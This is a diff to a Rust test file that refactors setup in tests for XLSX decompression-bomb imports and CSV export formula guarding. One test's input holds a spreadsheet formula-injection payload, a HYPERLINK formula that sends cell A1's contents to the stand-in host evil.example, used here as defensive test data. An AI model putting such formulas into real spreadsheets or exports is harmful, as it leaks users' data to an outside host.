@@ -2,8 +2,8 @@
 //! guard, and signed referral packages. On the configured engine (see `kit::db`).
 
 use crate::kit::{
-    TestDb, api_client, api_token, bearer_get, ctx, dayaq_cli_default_key, fetch, json_answer,
-    org_and_user, spawn_app, test_db,
+    TestDb, api_client, api_token, bearer_get, ctx, dayaq_cli_default_key, db_with_user, fetch,
+    json_answer, org_and_user, spawn_app, test_db,
 };
 use dayaq_storage::StoreError;
 use dayaq_storage::htcds::Format;
@@ -90,8 +90,7 @@ async fn xlsx_bombs_get_422_and_the_server_keeps_answering() {
 
 #[tokio::test]
 async fn the_questionnaire_import_uses_the_bounded_reader() {
-    let db = test_db().await;
-    let (_, user) = org_and_user(&db, "org-q", "caseworker").await;
+    let (db, user) = db_with_user("org-q", "caseworker").await;
     let actor = user.actor();
     for bomb in [corner_bomb(), wide_bomb()] {
         let e = db
@@ -119,8 +118,7 @@ async fn the_questionnaire_import_uses_the_bounded_reader() {
 
 #[tokio::test]
 async fn cli_import_of_an_xlsx_bomb_fails_cleanly() {
-    let db = test_db().await;
-    let (_, user) = org_and_user(&db, "org-cli", "caseworker").await;
+    let (db, user) = db_with_user("org-cli", "caseworker").await;
     db.store.close().await;
     let dir = tempfile::tempdir().unwrap();
     for (name, bytes) in [("corner.xlsx", corner_bomb()), ("wide.xlsx", wide_bomb())] {
@@ -174,8 +172,7 @@ fn runs_as_formula(cell: &str) -> bool {
 
 #[tokio::test]
 async fn csv_export_guards_every_cell_a_spreadsheet_would_run() {
-    let db = test_db().await;
-    let (_, user) = org_and_user(&db, "org-csv", "caseworker").await;
+    let (db, user) = db_with_user("org-csv", "caseworker").await;
     let actor = user.actor();
     let comments = [
         "x;=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
